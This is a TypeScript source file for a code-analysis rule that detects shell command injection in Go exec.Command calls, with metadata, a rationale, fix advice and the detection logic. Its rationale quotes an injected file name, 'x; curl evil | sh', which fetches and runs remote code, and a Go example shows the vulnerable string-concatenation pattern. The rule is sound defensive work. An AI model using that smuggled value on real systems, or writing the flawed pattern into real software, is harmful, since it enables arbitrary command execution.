import type { Node } from 'web-tree-sitter';
import { defineRule, type RuleContext } from '../define-rule.js';
import { callArgs, unparen } from '../../go/ast.js';
import { isSanitizerCall } from '../_shared/sanitizers.js';
import { allTemplates, constantString, shortText, TaintAnalyzer, worst, type Hole } from '../_shared/security-string-taint.js';

const POSIX_SHELLS = new Set(['sh', 'bash', 'zsh', 'ksh', 'dash', 'ash', 'mksh', 'fish', 'busybox']);
const CMD_SHELLS = new Set(['cmd', 'cmd.exe']);
const PS_SHELLS = new Set(['powershell', 'powershell.exe', 'pwsh', 'pwsh.exe']);

function shellKind(path: string): 'posix' | 'cmd' | 'ps' | undefined {
  const base = path.replace(/\\/g, '/').split('/').pop()!.toLowerCase();
  if (POSIX_SHELLS.has(base)) return 'posix';
  if (CMD_SHELLS.has(base)) return 'cmd';
  if (PS_SHELLS.has(base)) return 'ps';
  return undefined;
}

/** Index (in args) of the script operand following the shell's "command string" flag, if any. */
function scriptIndex(ctx: RuleContext, kind: 'posix' | 'cmd' | 'ps', args: Node[], from: number): number | undefined {
  for (let i = from; i < args.length; i++) {
    const v = constantString(ctx, args[i]);
    if (v === undefined) return kind === 'ps' ? i : undefined; // powershell runs a bare first argument
    if (kind === 'posix') {
      if (v === '-c' || /^-[a-zA-Z]*c[a-zA-Z]*$/.test(v)) return i + 1;
      if (v.startsWith('-') || v.startsWith('+')) continue; // -e, -l, --login, -o pipefail's name below
      if (i > from && /^-o$/.test(constantString(ctx, args[i - 1]) ?? '')) continue;
      return undefined; // a script file: not a command string
    }
    if (kind === 'cmd') {
      if (/^\/[cCkK]$/.test(v)) return i + 1;
      if (v.startsWith('/')) continue;
      return undefined;
    }
    if (/^-(c|command|Command|cmd)$/i.test(v)) return i + 1;
    if (v.startsWith('-')) continue;
    // powershell treats a bare first argument as the command
    return i;
  }
  return undefined;
}

/** Shell quoting: the shared sanitizer table (shellescape, syscall.EscapeArg, the package's own quoting helpers). */
function isShellQuoting(ctx: RuleContext, call: Node, name: string, pkg: string | undefined): boolean {
  return isSanitizerCall(ctx, call, 'shell', name, pkg);
}

export default defineRule({
  meta: {
    id: 'SEC1009',
    name: 'exec-shell-injection',
    dimension: 'security',
    severity: 'high',
    confidence: 'high',
    lifecycle: 'experimental',
    blindRecordFrom: '2026-12-16',
    experimentalReason:
      'Blind record over the samples of 2026-12-07 to 2026-12-15 (repositories not used in development; `node dist/scripts/blind-record.js`): 0 TP, 6 FP, 1 "nobody would act" of 7 judged — no judged finding was acted on, below the bar for a default rule (precision 90 %, at most a third nobody acts on). Main classes: values passed through the package\'s own shell-quoting helper, operator flags, tools meant to run arbitrary commands. Reworked after the 2026-12-15 sample (the package\'s own quoting helpers are sanitizers), so its record restarts at 2026-12-16 (blindRecordFrom); it returns to the default set when a fresh blind record clears the bar.',
    title: 'Shell command string built from non-constant values',
    passCriterion: 'commands run with argument vectors, never a shell string built from values',
    rationale:
      'exec.Command("sh", "-c", script) hands the whole string to a shell, which interprets quotes, ;, |, $(), ` and ' +
      'globs. Any variable part of the script (a file name, a branch, a user id) can therefore run arbitrary commands ' +
      'with the service\'s privileges (CWE-78): a file called `x; curl evil | sh` is enough. Running the program ' +
      'directly with separate arguments, or passing values as positional parameters ($1) of a constant script, avoids it.',
    fix: {
      text:
        'Call the program directly, exec.CommandContext(ctx, "tar", "-xf", path), or keep the script constant and pass ' +
        'values as positional arguments: exec.Command("sh", "-c", `tar -xf "$1"`, "sh", path).',
      effort: 'low',
    },
    examples: [
      {
        bad:
          'package build\n\nimport "os/exec"\n\nfunc Extract(path string) error {\n' +
          '\treturn exec.Command("sh", "-c", "tar -xf "+path).Run()\n}\n',
        good:
          'package build\n\nimport "os/exec"\n\nfunc Extract(path string) error {\n' +
          '\treturn exec.Command("tar", "-xf", path).Run()\n}\n',
      },
    ],
    messages: {
      built:
        '{{cmd}} runs a script built by {{via}} from non-constant `{{expr}}`: a value containing shell ' +
        'metacharacters runs arbitrary commands; run the program directly or pass values as positional arguments',
      whole:
        '{{cmd}} runs the non-constant script `{{expr}}`{{origin}}: if any part of it is not trusted it can run ' +
        'arbitrary commands; run the program directly or keep the script constant',
    },
    sources: [],
    notes:
      'Only shells given a command string are checked (sh/bash/zsh... -c, cmd /c, powershell -Command); arguments after ' +
      'the script (positional parameters) are the safe way to pass values and are not reported. Numbers (%d, ' +
      'strconv.Itoa), constants and values passed through a shell-quoting helper (shellescape.Quote, shellquote.Join, ' +
      'syscall.EscapeArg) are safe, and so are values passed through the package\'s own ' +
      'quoting helper (quote*/escape* named, e.g. quotePowerShellString): one declared in the same file counts when its ' +
      'body replaces the quote character (strings.ReplaceAll(s, "\'", "\'\'"), strings.NewReplacer, strconv.Quote) — a ' +
      'helper that only wraps the value in quotes does not — and one of another file of the package by its name. gosec G204 reports every non-constant exec argument, including direct program invocations; this rule ' +
      'is limited to shell command strings, so it claims no peer equivalent.',
  },
  prefilter: ['exec.Command', 'Command('],
  create(ctx) {
    let taint: TaintAnalyzer | undefined;
    const analyzer = () => (taint ??= new TaintAnalyzer(ctx, { isQuotingCall: isShellQuoting }));
    return {
      call_expression(call) {
        let first: number;
        if (ctx.isCallTo(call, 'os/exec', 'Command')) first = 0;
        else if (ctx.isCallTo(call, 'os/exec', 'CommandContext')) first = 1;
        else return;
        const args = callArgs(call);
        const argList = call.childForFieldName('arguments');
        if (argList?.children.some((c) => c?.type === '...')) return;
        const shellPath = constantString(ctx, args[first]);
        if (!shellPath) return;
        const kind = shellKind(shellPath);
        if (!kind) return;
        const idx = scriptIndex(ctx, kind, args, first + 1);
        if (idx === undefined || !args[idx]) return;
        const script = unparen(args[idx])!;
        const flag = constantString(ctx, args[idx - 1]) ?? '';
        const shell = shellPath.replace(/\\/g, '/').split('/').pop()!;
        const t = analyzer().flatten(script);
        let found: Hole | undefined;
        for (const tpl of allTemplates(t)) {
          for (const h of tpl.holes) {
            if (h.origin.level === 'safe') continue;
            if (!found || worst(found.origin, h.origin) !== found.origin) found = h;
          }
        }
        if (!found) return;
        const flagText = idx - 1 >= first + 1 && flag !== shellPath ? flag : '';
        if (t.built) {
          ctx.report({
            node: script,
            messageId: 'built',
            data: { cmd: flagText ? `${shell} ${flagText}` : shell, via: found.via || 'concatenation', expr: shortText(found.node) },
          });
        } else {
          const origin = found.origin.level === 'input' && found.origin.source
            ? ` (untrusted input from ${found.origin.source})`
            : found.origin.level === 'param' && found.origin.culprit
              ? ` (from parameter \`${found.origin.culprit.text}\`)`
              : '';
          ctx.report({
            node: script,
            messageId: 'whole',
            data: { cmd: flagText ? `${shell} ${flagText}` : shell, expr: shortText(script), origin },
            confidence: 'medium',
            severity: 'medium',
          });
        }
      },
    };
  },
});
